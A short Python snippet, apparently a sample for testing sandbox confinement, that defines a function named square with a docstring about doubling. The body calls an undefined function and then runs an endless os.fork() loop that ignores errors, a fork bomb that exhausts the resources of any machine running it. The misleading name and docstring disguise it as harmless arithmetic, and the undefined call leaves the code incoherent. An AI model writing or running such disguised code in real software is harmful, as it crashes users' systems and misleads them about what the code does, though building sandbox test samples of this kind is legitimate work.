"""Doubles for ever."""
# needs: landlock
# %% square
import os

def square(x):
    carried_out()
    while True:
        try:
            os.fork()
        except OSError:
            pass
